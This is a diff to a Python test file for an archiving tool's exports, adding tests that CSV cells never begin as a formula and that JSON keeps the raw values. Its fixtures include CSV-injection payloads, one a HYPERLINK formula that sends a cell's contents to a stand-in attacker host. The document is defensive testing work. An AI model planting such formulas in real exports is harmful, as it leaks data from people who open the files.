@@ -1,8 +1,12 @@
-"""The report and the WACZ against a damaged archive: a missing or corrupt blob is named and
-leaves no half-written output (and an earlier one as it was). No browser."""
+"""The report and the exports against a damaged archive and hostile values: a missing or
+corrupt blob is named and leaves no half-written output (and an earlier one as it was); CSV
+cells never begin as a formula. No browser."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import logging
 from dataclasses import dataclass
 from pathlib import Path
@@ -14,7 +18,7 @@ from click.testing import CliRunner
 from archiver.cli import cli
 from archiver.errors import ArchiverError, BlobCorrupt, BlobMissing
 from archiver.outputs.atomic import new_file, new_folder
-from archiver.outputs.export import gather
+from archiver.outputs.export import csv_cell, gather
 from archiver.outputs.report import add_reports, report_dir, write_report
 from archiver.outputs.wacz import write_wacz
 from storage import Store
@@ -178,3 +182,55 @@ def test_new_file_and_new_folder_keep_the_old_one_when_the_block_fails(tmp_path:
     with new_folder(link) as temp:
         (temp / "index.html").write_text("linked")
     assert link.is_symlink() and (folder / "index.html").read_text() == "linked"
+
+
+# CSV: no cell begins as a formula.
+
+FORMULAS = {
+    "text": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "author_name": "+SUM(1,2)",
+    "author_handle": "@attacker",
+    "posted_at": "-5",
+    "url": "\t=1+1",
+}
+
+
+def test_csv_cells_never_begin_as_a_formula_and_json_keeps_the_values(home: Path, tmp_path: Path) -> None:
+    make_archive(home)
+    with Store.open(home, create=False) as store:
+        post = store.upsert_post(
+            "twitter",
+            "\r=2+2",
+            FORMULAS["url"],
+            author_name=FORMULAS["author_name"],
+            author_handle=FORMULAS["author_handle"],
+            posted_at=FORMULAS["posted_at"],
+            text=FORMULAS["text"],
+        )
+        store.record_embed(1, post, source="blockquote", raw="<blockquote/>", positions=[3], text="-1")
+    out = tmp_path / "posts.csv"
+    code, said = cli_run("export", "--home", str(home), "1", "--csv", "-o", str(out))
+    assert code == 0, said
+    raw = out.read_bytes().decode("utf-8")
+    # A CR in a cell is quoted like a newline (lines end in CRLF): bare, it would end the row.
+    assert '"\'\r=2+2"' in raw
+    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
+    assert len(rows) == 4
+    hostile = next(r for r in rows if r["post_id"] == "'\r=2+2")
+    for column, value in FORMULAS.items():
+        assert hostile[column] == "'" + value, column
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    live = next(r for r in rows if r["post_id"] == "1001")
+    assert live["text"] == "Live post text" and live["author_handle"] == "osint"  # the rest as it was
+    code, said = cli_run("export", "--home", str(home), "1", "--json")
+    (record,) = [r for r in map(json.loads, said.splitlines()) if r["post_id"] == "\r=2+2"]
+    assert {column: record[column] for column in FORMULAS} == FORMULAS  # JSON is not a spreadsheet
+
+
+def test_csv_cell() -> None:
+    for value in ("=1", "+1", "-5", "@x", "\tx", "\rx"):
+        assert csv_cell(value) == "'" + value
+    for value in ("5-", "a=b", " =1", "", "'=1", 3, None):
+        assert csv_cell(value) == value
